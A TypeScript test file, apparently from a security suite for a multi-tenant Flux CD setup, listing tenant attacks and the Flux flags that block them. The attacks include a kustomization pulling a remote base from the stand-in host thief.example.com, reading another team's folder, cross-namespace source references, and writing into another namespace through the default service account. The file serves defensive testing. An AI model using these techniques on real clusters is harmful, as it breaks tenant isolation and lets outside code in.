import { type Attack, stoppedBy } from '../attack';
import { followsOwn, pushes } from '../by-flux';
import type { ControllerWorld } from '../controller-world';
import { fluxFlag, sparseCheckout } from '../flux-controls';
import { manifest } from '../manifest';
import { filesOf, kustomizationOf } from '../team-repository';

const own = (spec: object) =>
  manifest('kustomize.toolkit.fluxcd.io/v1 Kustomization', 'shop/own', {
    spec: { interval: '1h', prune: true, sourceRef: { kind: 'GitRepository', name: 'shop' }, ...spec },
  });

const noRemoteBases = fluxFlag(
  '--no-remote-bases=true',
  '--no-remote-bases=false',
  /URL is a git repository.*fs-security-constraint/,
);
const noCrossNamespaceRefs = fluxFlag(
  '--no-cross-namespace-refs=true',
  '--no-cross-namespace-refs=false',
  /cross-namespace references have been blocked/,
);
const defaultServiceAccount = fluxFlag(
  '--default-service-account=default',
  '--default-service-account=',
  /"system:serviceaccount:shop:default" cannot/,
);

/** What only Flux can stop, since nothing of it ever reaches the API server; and what it stops where the Roles have a gap. */
export const pushedAttacks: readonly Attack<ControllerWorld>[] = [
  ...stoppedBy(noRemoteBases, [
    pushes('a file that takes more from a repository of its own', {
      'kustomization.yaml': kustomizationOf(['base.yaml', 'http://thief.example.com/thief/base.git?ref=v1']),
    }),
  ]),
  ...stoppedBy(sparseCheckout, [
    pushes("a file that takes another team's folder", {
      'kustomization.yaml': kustomizationOf(['../media'], { namespace: 'shop' }),
    }),
  ]),
  ...stoppedBy(noCrossNamespaceRefs, [
    followsOwn(
      "a Kustomization of another team's source",
      {},
      own({
        path: './dist/apps/dev/media',
        sourceRef: { kind: 'GitRepository', name: 'media', namespace: 'media' },
        targetNamespace: 'shop',
        serviceAccountName: 'shop-deploy',
      }),
      { namespace: 'media', name: 'media' },
    ),
  ]),
  ...stoppedBy(defaultServiceAccount, [
    followsOwn(
      'a Kustomization without an account',
      {
        ...filesOf([]),
        'kustomization.yaml': kustomizationOf(['base.yaml']),
        'own/kustomization.yaml': kustomizationOf(['theirs.yaml']),
        'own/theirs.yaml': JSON.stringify(manifest('v1 ConfigMap', 'media/thief')),
      },
      own({ path: './dist/apps/dev/shop/own' }),
      { namespace: 'shop', name: 'shop' },
    ),
  ]),
];
